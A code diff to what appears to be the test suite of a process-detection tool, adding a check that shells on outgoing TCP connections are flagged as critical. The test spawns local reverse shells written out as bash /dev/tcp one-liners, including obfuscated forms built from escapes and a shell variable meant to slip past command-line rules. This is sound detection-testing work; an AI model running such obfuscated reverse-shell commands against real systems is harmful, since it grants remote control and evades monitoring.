@@ -20,6 +20,7 @@ let reverseShellPid = 0;
 let escapedKworkerPid = 0;
 let zeroWidthKworkerPid = 0;
 let quotedShellPids: number[] = [];
+let expandedShellPid = 0;
 let alerts: Alert[] = [];
 
 beforeAll(async () => {
@@ -46,6 +47,8 @@ beforeAll(async () => {
     await suspects.reverseShell({}, (port) => `bash -i >& /d\\ev/tc\\p/127.0.0.1/${port} 0>&1; true`),
     await suspects.reverseShell({}, (port) => `bash -i >& $'\\x2fdev\\x2ftcp'/127.0.0.1/${port} 0>&1; true`),
   ];
+  // 6. A reverse shell whose /dev/tcp is built by a variable: no command-line rule can read it.
+  expandedShellPid = await suspects.reverseShell({}, (port) => `x=t; bash -i >& /dev/\${x}cp/127.0.0.1/${port} 0>&1; true`);
 
   const detect = await runCli(['detect', '--format', 'json', '--verbose', '--log-format', 'json'], {env, timeoutMs: 120_000});
   expect(detect.code, detect.stderr).toBe(0);
@@ -108,6 +111,15 @@ describe('detect with the built-in rules on real suspicious processes', () => {
 
   it("reports the reverse shell whose /dev/tcp is split by \"\", '', backslashes or $'\\x2f' (critical)", () => {
     for (const pid of quotedShellPids) expect(reported('reverse-shell-command-line', pid)?.severity, String(pid)).toBe('critical');
+  });
+
+  it('reports the shell on an outgoing TCP connection (critical), whatever the command line that started it says', () => {
+    for (const outer of [reverseShellPid, expandedShellPid, ...quotedShellPids]) {
+      const alert = alerts.find(
+        (a) => a.rule_id === 'reverse-shell-stdio-tcp' && ((a.alert_data as {processes?: {ppid?: number}[]}).processes ?? []).some((row) => row.ppid === outer),
+      );
+      expect(alert?.severity, String(outer)).toBe('critical');
+    }
   });
 
   it('does not report the test runner itself', () => {
